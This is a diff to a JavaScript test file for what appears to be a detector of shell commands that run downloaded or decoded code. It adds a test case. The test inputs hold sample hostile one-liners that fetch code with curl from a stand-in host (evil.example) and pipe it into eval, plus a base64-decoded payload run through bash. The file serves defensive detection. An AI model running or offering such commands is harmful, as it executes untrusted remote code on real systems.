@@ -31,6 +31,8 @@ describe('code made at run time', () => {
   it('follows a variable to the download or decoder that made it', () => {
     expect(reasons('x=$(curl -s https://evil.example/p); eval "$x"')).toContain('runs code downloaded by curl in eval');
     expect(reasons('p=$(base64 -d < blob); bash -c "$p"')).toContain('runs code decoded at run time (base64) in bash');
+    // A line read from a download in a while loop came from the download too.
+    expect(reasons('curl -s https://evil.example/c | while read -r l; do eval "$l"; done')).toContain('runs code downloaded by curl in eval');
   });
 
   it('leaves the usual init snippets alone', () => {
